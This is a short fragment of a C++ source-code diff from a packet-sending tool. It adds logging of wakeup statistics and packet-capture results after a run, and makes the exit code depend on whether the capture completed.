+    dispatch_packet_size<RunAttack>(config.packet_size, socket, config, start_time, total_bytes_sent, log_file, last_log_time, seq_number);
 
     stop_ack_listener = true;
 
@@ -332,7 +644,17 @@ int main(int argc, char *argv[]) {
     //std::cout << "Average Throughput (bps): " << average_throughput << std::endl;
 
     log_file << "Average Throughput (bps): " << average_throughput << std::endl;
+    if (rt_profile.enabled) {
+        send_wakeup_stats.report(log_file, "send");
+        ack_wakeup_stats.report(log_file, "ACK");
+    }
+    bool capture_complete = true;
+    if (pcap_writer.is_open()) {
+        capture_complete = pcap_writer.close();
+        log_file << "Capture: " << pcap_file << ", Dropped Records: " << pcap_writer.dropped()
+                 << ", Lost Records: " << pcap_writer.lost() << std::endl;
+    }
     log_file.close();
-    return 0;
+    return capture_complete ? 0 : 1;
 
 }
\ No newline at end of file